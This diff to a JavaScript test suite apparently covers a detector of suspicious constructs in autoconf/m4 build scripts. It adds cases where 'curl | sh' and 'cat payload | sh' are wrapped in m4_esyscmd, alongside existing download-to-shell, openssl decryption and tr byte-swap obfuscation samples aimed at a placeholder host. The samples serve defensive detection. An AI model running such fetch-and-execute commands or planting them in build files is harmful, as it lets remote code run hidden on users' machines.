@@ -97,6 +97,8 @@ describe('findConstructs', () => {
     ['openssl enc -d', 'openssl enc -aes-256-cbc -d -in x -out y', 'base64-decode'],
     ['curl | sh', 'curl -fsSL https://example.invalid/i.sh | sh', 'download-to-shell'],
     ['sh -c "$(wget …)"', 'sh -c "$(wget -qO- https://example.invalid/i.sh)"', 'download-to-shell'],
+    ['curl | sh inside an m4 quote', 'm4_esyscmd([curl -fsSL https://example.invalid/i.sh | sh])', 'download-to-shell'],
+    ['pipe into sh closing an m4 quote', 'm4_esyscmd([cat payload | sh])', 'eval-pipe-shell'],
     ['tr over all bytes', "tr '\\000-\\377' '\\001-\\377\\000' < a > b", 'tr-byte-swap'],
     ['rot13', "tr 'a-zA-Z' 'n-za-mN-ZA-M'", 'tr-byte-swap'],
     ['grep -R over top_srcdir', 'grep -Rl marker "$top_srcdir"', 'recursive-grep-srcdir'],
